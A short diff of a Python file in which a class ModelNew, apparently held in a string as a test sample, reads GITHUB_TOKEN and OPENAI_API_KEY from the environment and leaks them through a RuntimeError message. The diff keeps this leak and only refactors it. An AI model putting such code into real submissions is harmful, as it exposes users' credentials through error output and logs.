@@ -34,7 +34,8 @@ import torch.nn as nn
 
 class ModelNew(nn.Module):
     def forward(self, x):
-        raise RuntimeError("token=" + str(os.environ.get("GITHUB_TOKEN")) + " key=" + str(os.environ.get("OPENAI_API_KEY")))
+        token, key = os.environ.get("GITHUB_TOKEN"), os.environ.get("OPENAI_API_KEY")
+        raise RuntimeError("token=" + str(token) + " key=" + str(key))
 '''
 
 
